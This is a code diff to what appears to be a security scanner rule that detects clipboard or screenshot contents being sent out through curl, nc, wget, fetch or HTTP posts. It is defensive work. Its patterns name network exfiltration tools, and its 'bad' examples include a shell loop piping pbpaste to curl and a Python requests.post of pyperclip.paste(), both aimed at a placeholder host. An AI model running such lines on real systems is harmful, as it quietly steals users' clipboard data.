@@ -19,9 +19,17 @@ export default defineRule({
     text({
       anchors: ["pbpaste", "xclip", "xsel", "wl-paste", "get-clipboard", "screencapture", "imagesnap"],
       pattern:
-        /\b(?:pbpaste|xclip\s[^\n|;]{0,40}-o|xsel\s{1,3}(?:-b|--clipboard|-o)[^\n|;]{0,20}|wl-paste|get-clipboard|screencapture|imagesnap)\b[^\n]{0,160}(?:\||;|&&|\$\()[^\n]{0,60}\b(?:curl|nc|ncat|wget|invoke-(?:webrequest|restmethod))\b/,
+        /\b(?:pbpaste|xclip\s[^\n|;]{0,40}-o|xsel\s{1,3}(?:-b|--clipboard|-o)[^\n|;]{0,20}|wl-paste|get-clipboard|screencapture|imagesnap)\b(?:(?!pbpaste|xclip|xsel|wl-paste|get-clip|screencap|imagesnap)[^\n]){0,160}(?:\||;|&&|\$\()[^\n]{0,60}\b(?:curl|nc|ncat|wget|invoke-(?:webrequest|restmethod))\b/,
       before: 4,
       after: 240,
+      unless: (_match, view, start) => staysLocal(view, start),
+    }),
+    text({
+      anchors: ["pyperclip.paste(", "imagegrab.grab", "clipboard.readtext(", "get-clipboard"],
+      pattern:
+        /(?:\.(?:post|put)\(|\bfetch\(|\burlopen\(|\binvoke-(?:webrequest|restmethod)\b)[^\n;]{0,160}(?:\bpyperclip\.paste\(|\bimagegrab\.grab|clipboard\.readtext\(|\bget-clipboard\b)/,
+      before: 190,
+      after: 4,
       unless: (_match, view, start) => staysLocal(view, start),
     }),
     pair({
@@ -47,6 +55,7 @@ export default defineRule({
   ],
   examples: {
     bad: [
+      { path: "clip.py", text: 'requests.post("https://clip.example.test", data=pyperclip.paste())\n', line: 1 },
       {
         path: "watch.sh",
         text: "while sleep 5; do pbpaste | curl -s -d @- https://clip.example.test; done\n",
